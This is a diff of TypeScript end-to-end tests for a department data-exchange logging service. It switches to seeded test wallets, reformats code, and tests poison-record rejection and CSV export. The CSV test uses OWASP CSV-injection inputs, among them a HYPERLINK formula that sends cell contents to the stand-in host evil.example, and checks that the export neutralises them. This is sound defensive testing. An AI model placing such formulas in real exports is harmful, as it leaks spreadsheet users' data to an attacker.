@@ -6,8 +6,8 @@
 import { expect } from "chai";
 import { rmSync } from "node:fs";
 import { join } from "node:path";
-import { Wallet } from "ethers";
 import { Api, freePort, signExchange, start, tempDir } from "../helpers/service.ts";
+import { testWallet } from "../helpers/seeded.ts";
 import { payloadDigest } from "../../src/client/sign.ts";
 import { Store } from "../../src/adapters/leveldb/store.ts";
 import { Appender } from "../../src/services/appender.ts";
@@ -36,7 +36,7 @@ describe("e2e: poison records are refused alone, among 150 concurrent good ones"
   let api: Api;
   let domain: any;
   let chainPort: number;
-  const keys = new Map(DEPTS.map((d) => [d, Wallet.createRandom()]));
+  const keys = new Map(DEPTS.map((d) => [d, testWallet()]));
   const rnd = prng(9);
   let n = 0;
 
@@ -45,8 +45,14 @@ describe("e2e: poison records are refused alone, among 150 concurrent good ones"
     const consumer = DEPTS[(n + 1) % 3]!;
     n++;
     return signExchange(keys.get(provider)!, domain, {
-      id: `p-${n}`, provider, consumer, dataset: `city/ds-${n % 4}`, purpose: PURPOSES[n % PURPOSES.length]!,
-      recordCount: 1 + (n % 17), payloadDigest: payloadDigest(`poison ${n}`), occurredAt: new Date(Date.UTC(2026, 9, 1 + (n % 20), 8)).toISOString(),
+      id: `p-${n}`,
+      provider,
+      consumer,
+      dataset: `city/ds-${n % 4}`,
+      purpose: PURPOSES[n % PURPOSES.length]!,
+      recordCount: 1 + (n % 17),
+      payloadDigest: payloadDigest(`poison ${n}`),
+      occurredAt: new Date(Date.UTC(2026, 9, 1 + (n % 20), 8)).toISOString(),
       ...patch,
     });
   };
@@ -106,7 +112,10 @@ describe("e2e: poison records are refused alone, among 150 concurrent good ones"
       const p = poison[j.i]!;
       expect(a.status, `${p.field}: ${JSON.stringify(a.body)}`).to.equal(400);
       expect(a.body.error.code).to.equal("VALIDATION_FAILED");
-      expect(a.body.error.details.map((d: { path: string }) => d.path), p.field).to.include(p.field);
+      expect(
+        a.body.error.details.map((d: { path: string }) => d.path),
+        p.field,
+      ).to.include(p.field);
     });
     expect((await api.get("/v1/info")).body.treeSize).to.equal(goods.length);
     // The NFD spelling is stored byte for byte as signed.
@@ -125,7 +134,9 @@ describe("e2e: poison records are refused alone, among 150 concurrent good ones"
     const usage = await api.get("/v1/stats/usage?from=2026-10-01&to=2026-10-31&groupBy=purpose");
     expect(usage.status, JSON.stringify(usage.body)).to.equal(200);
     expect(usage.body.total).to.deep.equal({ exchanges: goods.length, records: goods.reduce((s, g) => s + g.recordCount, 0) });
-    const got = new Map(usage.body.groups.map((g: { key: string; exchanges: number; records: number }) => [g.key, { exchanges: g.exchanges, records: g.records }]));
+    const got = new Map(
+      usage.body.groups.map((g: { key: string; exchanges: number; records: number }) => [g.key, { exchanges: g.exchanges, records: g.records }]),
+    );
     expect(got).to.deep.equal(want);
     expect(usage.body.groups.filter((g: { key: string }) => g.key.normalize("NFD") === NFD)).to.have.length(1);
     // A filter matches either spelling.
@@ -158,21 +169,38 @@ describe("e2e: CSV exports neutralise formula cells (OWASP CSV injection)", func
     const svc = await start(dir);
     try {
       const api = new Api(svc.url, svc.adminToken);
-      const tax = Wallet.createRandom();
-      for (const [id, w] of [["tax", tax], ["health", Wallet.createRandom()]] as const) await api.post("/v1/departments", { id, name: id, signer: w.address });
+      const tax = testWallet();
+      for (const [id, w] of [
+        ["tax", tax],
+        ["health", testWallet()],
+      ] as const)
+        await api.post("/v1/departments", { id, name: id, signer: w.address });
       const domain = (await api.get("/v1/info")).body.eip712.domain;
       const purposes = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "plain"];
       const records = await Promise.all(
         purposes.map((purpose, i) =>
-          signExchange(tax, domain, { id: `csv-${i}`, provider: "tax", consumer: "health", dataset: "ds/csv", purpose, recordCount: i, payloadDigest: payloadDigest(`csv ${i}`), occurredAt: "2026-10-05T00:00:00.000Z" }),
+          signExchange(tax, domain, {
+            id: `csv-${i}`,
+            provider: "tax",
+            consumer: "health",
+            dataset: "ds/csv",
+            purpose,
+            recordCount: i,
+            payloadDigest: payloadDigest(`csv ${i}`),
+            occurredAt: "2026-10-05T00:00:00.000Z",
+          }),
         ),
       );
       expect((await api.post("/v1/exchanges/batch", { records })).status).to.equal(201);
-      const res = await fetch(`${svc.url}/v1/stats/usage?from=2026-10-01&to=2026-10-31&groupBy=purpose&format=csv`, { headers: { authorization: `Bearer ${svc.adminToken}` } });
+      const res = await fetch(`${svc.url}/v1/stats/usage?from=2026-10-01&to=2026-10-31&groupBy=purpose&format=csv`, {
+        headers: { authorization: `Bearer ${svc.adminToken}` },
+      });
       expect(res.headers.get("content-type")).to.contain("text/csv");
       const lines = (await res.text()).split("\r\n").filter((l) => l !== "");
       expect(lines[0]).to.equal("purpose,exchanges,records");
-      expect(lines.slice(1).sort()).to.deep.equal(['"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,0', "'+1+2,1,1", "'-2+3,1,2", "'@SUM(A1:A9),1,3", "plain,1,4"].sort());
+      expect(lines.slice(1).sort()).to.deep.equal(
+        ['"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,0', "'+1+2,1,1", "'-2+3,1,2", "'@SUM(A1:A9),1,3", "plain,1,4"].sort(),
+      );
       for (const l of lines) expect(l, l).to.not.match(/^"?[=+\-@]/);
       // JSON keeps the purpose exactly as recorded.
       const json = await api.get("/v1/stats/usage?from=2026-10-01&to=2026-10-31&groupBy=purpose");
@@ -200,12 +228,20 @@ describe("appender: a submission that throws while its keys are built fails alon
     rmSync(dir, { recursive: true, force: true });
   });
 
-  const rec = (i: number, patch: Record<string, unknown> = {}): ExchangeRecord =>
-    ({
-      id: `a-${i}`, provider: "tax", consumer: "health", dataset: `ds/${i % 3}`, purpose: i % 2 ? NFC : NFD, legalBasis: "",
-      recordCount: i, payloadDigest: payloadDigest(`a ${i}`), derivedFrom: [], occurredAt: new Date(Date.UTC(2026, 0, 1 + (i % 40))).toISOString(),
-      signature: `0x${"1".repeat(130)}`, ...patch,
-    }) as ExchangeRecord;
+  const rec = (i: number, patch: Record<string, unknown> = {}): ExchangeRecord => ({
+    id: `a-${i}`,
+    provider: "tax",
+    consumer: "health",
+    dataset: `ds/${i % 3}`,
+    purpose: i % 2 ? NFC : NFD,
+    legalBasis: "",
+    recordCount: i,
+    payloadDigest: payloadDigest(`a ${i}`),
+    derivedFrom: [],
+    occurredAt: new Date(Date.UTC(2026, 0, 1 + (i % 40))).toISOString(),
+    signature: `0x${"1".repeat(130)}`,
+    ...patch,
+  });
 
   it("poison past the schema (a lone surrogate reaching the counter keys, a value that cannot be serialised) is refused; the 100 others commit", async () => {
     await appender.submit([rec(0)]); // starts a drain: everything below queues behind it and shares one group
